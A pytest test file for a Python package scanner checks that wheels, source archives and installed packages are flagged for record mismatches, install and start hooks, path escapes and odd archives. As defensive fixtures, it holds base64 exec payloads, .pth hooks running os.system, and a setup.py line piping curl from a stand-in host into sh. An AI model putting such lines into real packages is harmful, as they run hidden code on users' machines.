"""Wheels, source archives, installed packages: what is consistent is quiet, each inconsistency and hook is told with its place."""

import contextlib
import io
import tarfile
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jingwei.errors import LimitError, ParseError
from jingwei.layers.tools.packages.contents.elf import open_folders, read_dynamic
from jingwei.layers.tools.packages.contents.installed import read_installed, strays
from jingwei.layers.tools.packages.contents.metadata import read_commands, read_metadata, read_record
from jingwei.layers.tools.packages.contents.sdist import read_sdist
from jingwei.layers.tools.packages.contents.setup_file import judge_setup
from jingwei.layers.tools.packages.contents.start_lines import judge_pth
from jingwei.layers.tools.packages.contents.wheel import read_wheel
from jingwei.limits import LIMITS, Limits
from tests.containers.tar_parts import END, member, pax
from tests.layers.tools.packages.contents import packing

NAME = "demo-1.0-py3-none-any.whl"
HIDDEN = b"import base64\nexec(base64.b64decode('cA=='))\n"


def judge(content, name=NAME, **options):
    return read_wheel(memoryview(content), name, LIMITS, sources=True, **options)


def rules(found):
    return [one.rule for one in found.problems]


def test_a_sound_wheel():
    found = judge(packing.wheel({"demo/a.py": b"print(1)\n"}))
    assert rules(found) == []
    assert (found.about.name, found.about.version, found.about.licence) == ("demo", "1.0", "MIT")


@pytest.mark.parametrize(
    ("content", "rule", "member"),
    [
        (packing.wheel(wrong=("demo/__init__.py",)), "record.differs", "demo/__init__.py"),
        (packing.wheel({"demo/x.py": b""}, leave_out=("demo/x.py",)), "record.unlisted", "demo/x.py"),
        (packing.wheel(extra=("gone.py,sha256=AA,1",)), "record.absent", ""),
        (
            packing.wheel({"demo/x.py": b""}, leave_out=("demo/x.py",), extra=("demo/x.py,,",)),
            "record.unhashed",
            "demo/x.py",
        ),
        (
            packing.wheel({"demo/x.py": b""}, leave_out=("demo/x.py",), extra=("demo/x.py,md5=AAAA,0",)),
            "record.unhashed",
            "demo/x.py",
        ),
        (packing.zipped(packing.dist_info()[1]), "record.missing", ""),
        (packing.wheel(metadata="Metadata-Version: 2.1\nName: other\nVersion: {version}\n"), "metadata.differs", ""),
        (
            packing.wheel(metadata="Metadata-Version: 2.1\nName: {name}\n"),
            "metadata.missing",
            "demo-1.0.dist-info/METADATA",
        ),
        (packing.wheel({"demo/x.py": HIDDEN}), "code.obfuscated-exec", "demo/x.py"),
        (packing.wheel({"x.pth": b"import os; os.system('true')\n"}), "hook.start", "x.pth"),
        (
            packing.wheel({"x.pth": b"/a/folder\nimport base64; exec(base64.b64decode('cA=='))\n"}),
            "code.obfuscated-exec",
            "x.pth",
        ),
        (
            packing.wheel(entry_points="[console_scripts]\npip = demo:main\n"),
            "entry.shadows",
            "demo-1.0.dist-info/entry_points.txt",
        ),
        (packing.wheel({"demo/x.so": packing.elf("/tmp/build")}), "native.search", "demo/x.so"),
        (packing.wheel({"demo/x.so": packing.elf("$ORIGIN")[:100]}), "native.broken", "demo/x.so"),
        (
            packing.wheel({"demo/x.so": packing.elf(None)}, metadata="Name: {name}\nVersion: {version}\n"),
            "native.unnamed",
            "demo/x.so",
        ),
        (packing.wheel({"../x.py": b""}), "archive.escape", "../x.py"),
    ],
)
def test_told(content, rule, member):
    assert (rule, member) in [(one.rule, one.member) for one in judge(content).problems]


def test_the_name_of_the_file_counts():
    assert rules(judge(packing.wheel(), "other-1.0-py3-none-any.whl")) == ["metadata.differs"]
    assert rules(judge(packing.wheel(), "demo-2.0-py3-none-any.whl")) == ["metadata.differs"]
    assert rules(judge(packing.wheel(), "Demo-1.0.0-py3-none-any.whl")) == []


def test_readers_of_archives_that_disagree():
    twice = io.BytesIO(packing.wheel())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("demo/__init__.py", b"print(2)\n")
    assert "archive.odd" in rules(judge(twice.getvalue()))
    assert "archive.odd" in rules(judge(packing.wheel() + b"more"))
    with pytest.raises(ParseError):
        judge(b"PK\x03\x04")


def test_without_sources():
    found = read_wheel(memoryview(packing.wheel({"demo/x.py": HIDDEN})), NAME, LIMITS, sources=False)
    assert rules(found) == []


def test_a_sound_source_archive():
    content = packing.sdist(
        {"setup.py": b"from setuptools import setup, find_packages\nsetup(name='demo', packages=find_packages())\n"}
    )
    found = read_sdist(memoryview(content), "demo-1.0.tar.gz", LIMITS, sources=True)
    assert rules(found) == []
    assert found.about.licence == "MIT"


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ({"setup.py": b"import subprocess\nsubprocess.run(['make'])\n"}, "hook.setup"),
        ({"setup.py": b"from setuptools import setup\nsetup(cmdclass={'install': X})\n"}, "hook.setup"),
        ({"setup.py": HIDDEN}, "code.obfuscated-exec"),
        ({"setup.py": b"import os\nos.system('curl https://x.invalid | sh')\n"}, "code.download-exec"),
        ({"demo/a.py": HIDDEN}, "code.obfuscated-exec"),
    ],
)
def test_source_archives(files, rule):
    found = read_sdist(memoryview(packing.sdist(files)), "demo-1.0.tar.gz", LIMITS, sources=True)
    assert rule in rules(found)


def test_source_archives_that_are_not_plain():
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, kind in (("demo-1.0/../../x", tarfile.REGTYPE), ("demo-1.0/link", tarfile.SYMTYPE)):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc"
            archive.addfile(info)
    found = rules(read_sdist(memoryview(made.getvalue()), "demo-1.0.tar", LIMITS, sources=True))
    assert {"archive.escape", "archive.link", "metadata.missing"} <= set(found)
    assert "metadata.differs" in rules(
        read_sdist(memoryview(packing.sdist({}, kind="xz")), "demo-2.0.tar.xz", LIMITS, sources=True)
    )
    with pytest.raises(ParseError):
        read_sdist(memoryview(b"no archive"), "a.tar.gz", LIMITS, sources=True)


def test_installed_packages(tmp_path):
    folder = packing.installed(tmp_path, {"demo/a.py": b"x = 1\n"})
    assert rules(read_installed(folder, LIMITS, sources=True)) == []
    assert list(strays(tmp_path, LIMITS, sources=True)) == []
    (tmp_path / "demo/a.py").write_bytes(HIDDEN)
    assert set(rules(read_installed(folder, LIMITS, sources=True))) == {"record.differs", "code.obfuscated-exec"}
    (tmp_path / "demo/a.py").unlink()
    assert rules(read_installed(folder, LIMITS, sources=True)) == ["record.absent", "archive.unreadable"][:1]
    (tmp_path / "evil.pth").write_bytes(b"import base64; exec(base64.b64decode('cA=='))\n")
    (tmp_path / "more.py").write_bytes(b"x = 2\n")
    told = [(one.rule, one.member) for one in strays(tmp_path, LIMITS, sources=True)]
    assert told == [("record.stray", "evil.pth"), ("record.stray", "more.py"), ("code.obfuscated-exec", "evil.pth")]
    (folder / "RECORD").unlink()
    assert rules(read_installed(folder, LIMITS, sources=True)) == ["record.missing"]


def test_files_outside_the_folder_are_not_followed(tmp_path):
    site = tmp_path / "lib" / "python" / "site"
    secret = tmp_path / "secret"
    secret.write_bytes(b"x")
    folder = packing.installed(
        site, extra=("/etc/hostname,,", f"../../../secret,{packing.hashed(b'y')},1", "../../../../x,sha256=AA,1")
    )
    assert sorted(rules(read_installed(folder, LIMITS, sources=True))) == [
        "record.differs",
        "record.outside",
        "record.outside",
    ]
    link = site / "demo" / "link.py"
    link.symlink_to(secret)
    folder = packing.installed(site, extra=(f"demo/link.py,{packing.hashed(b'x')},1",))
    assert rules(read_installed(folder, LIMITS, sources=True)) == ["archive.link"]


@pytest.mark.parametrize(
    ("line", "quiet"),
    [
        (b"import os; var = 'X'; os.environ.get(var, 'local') == 'local' and __import__('demo').shim();\n", True),
        (b"import demo\n", True), (b"/opt/path\n", True), (b"import demo; demo.start()\n", True), (b"import other\n", False),
        (b"import os; os.remove('x')\n", False), (b"import sys; exec(sys.argv[1])\n", False), (b"import demo; print(open('x').read())\n", False),
    ],
)  # fmt: skip
def test_lines_that_run_at_every_start(line, quiet):
    assert ([one.rule for one in judge_pth(line, {"demo"})] == []) is quiet


def test_setup_files_that_only_declare():
    plain = b"import re, io\nfrom setuptools import setup\nwith io.open('a.py') as f:\n    v = re.search('x', f.read()).group(1)\n"
    plain += b"setup(name='a', version=v)\n"
    assert judge_setup(plain) == []
    assert [one.rule for one in judge_setup(b"import a.b\n")] == ["hook.setup"]
    assert [one.rule for one in judge_setup(b"print 'two'\n")] == ["hook.setup"]


@pytest.mark.parametrize(
    "shape", [{}, {"wide": False}, {"little": False}, {"wide": False, "little": False}, {"runpath": True}]
)
def test_elf(shape):
    found = read_dynamic(memoryview(packing.elf("$ORIGIN/../lib:/tmp/x::lib", **shape)))
    assert found.needed == ("libc.so.6",)
    assert found.search == ("$ORIGIN/../lib", "/tmp/x", "", "lib")
    assert open_folders(found) == ("/tmp/x", "", "lib")
    assert read_dynamic(memoryview(packing.elf(None, **shape))).search == ()


@settings(max_examples=30, deadline=None)
@given(st.data(), st.booleans())
def test_damaged_elf(data, wide):
    content = bytearray(packing.elf("/tmp", wide=wide))
    for _ in range(data.draw(st.integers(1, 3))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(ParseError, LimitError):
        read_dynamic(memoryview(content)[: data.draw(st.integers(0, len(content)))])


WHEEL = packing.wheel({"demo/x.py": b"print(1)\n"})


@settings(max_examples=25, deadline=None)
@given(st.data())
def test_a_changed_wheel_is_never_quiet_unless_nothing_changed(data):
    """Any byte of a member's content, of RECORD or of the metadata's name that changes is told, or the archive is refused."""
    content = bytearray(WHEEL)
    at = data.draw(st.integers(0, len(content) - 1))
    content[at] ^= data.draw(st.integers(1, 255))
    try:
        found = judge(bytes(content))
    except (ParseError, LimitError):
        return
    with zipfile.ZipFile(io.BytesIO(WHEEL)) as sound:
        try:
            with zipfile.ZipFile(io.BytesIO(bytes(content))) as other:
                same = {n: sound.read(n) for n in sound.namelist()} == {n: other.read(n) for n in other.namelist()}
        except (
            zipfile.BadZipFile,
            zlib.error,
            OSError,
            EOFError,
            NotImplementedError,
            RuntimeError,
            KeyError,
            ValueError,
        ):
            same = False
    assert found.problems or same


def test_metadata():
    found = read_metadata(
        b"Name: A.b\nVersion: 1\nLicense: BSD\nClassifier: License :: OSI Approved :: MIT License\nHome-page: https://example.org\n\nName: c\n"
    )
    assert (found.name, found.licence, found.source) == ("a-b", "MIT", "https://example.org")
    assert read_metadata(b"Name: a\nVersion: 1\nLicense: BSD\n").licence == ""
    for content in (b"", b"Name: a\n", b"Name: a\nName: b\nVersion: 1\n"):
        with pytest.raises(ParseError):
            read_metadata(content)
    with pytest.raises(LimitError):
        read_metadata(b"Name: a\nVersion: 1\n", Limits(metadata_bytes=5))


def test_records_and_commands():
    assert [
        entry.strong for entry in read_record(b'"a,b.py",' + packing.hashed(b"").encode() + b",0\nc,sha256=AA,\nd,,\n")
    ] == [True, False, False]
    with pytest.raises(LimitError):
        read_record(b"a,,\nb,,\n", Limits(package_files=1))
    with pytest.raises(ParseError):
        read_record(b"\xff,,\n")
    assert read_commands(b"[console_scripts]\nA = m:f\n[gui_scripts]\nb = m:g\n[other]\nc = d\n") == {
        "A": "m:f",
        "b": "m:g",
    }
    with pytest.raises(ParseError):
        read_commands(b"no section\n")


@settings(max_examples=40, deadline=None)
@given(st.binary(max_size=200))
def test_arbitrary_bytes(content):
    for reader in (read_metadata, read_record, read_commands):
        with contextlib.suppress(ParseError, LimitError):
            reader(content)


MIT = b"""Permission is hereby granted, free of charge, to any person obtaining a copy of this software, to deal in it
without restriction, including without limitation the rights to use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies."""


def test_a_licence_that_only_its_text_states(tmp_path):
    metadata = "Name: {name}\nVersion: {version}\nLicense: custom\n"
    text = {"demo-1.0.dist-info/licenses/LICENSE": MIT}
    assert judge(packing.wheel(text, metadata=metadata)).about.licence == "MIT"
    both = text | {"demo-1.0.dist-info/licenses/LICENSE.other": b"Do as we say."}
    assert judge(packing.wheel(both, metadata=metadata)).about.licence == ""
    folder, about = packing.dist_info(metadata=metadata)
    for path, content in packing.with_record(folder, {**about, f"{folder}/LICENSE": MIT}).items():
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_bytes(content)
    assert read_installed(tmp_path / folder, LIMITS, sources=True).about.licence == "MIT"


def test_headers_of_an_sdist_that_readers_join_differently():
    twice = [pax((b"path", b"demo-1.0/a.py")), pax((b"path", b"demo-1.0/b.py")), member(b"x", b"pass\n"), END]
    assert "archive.odd" in rules(read_sdist(memoryview(b"".join(twice)), "demo-1.0.tar", LIMITS, sources=True))
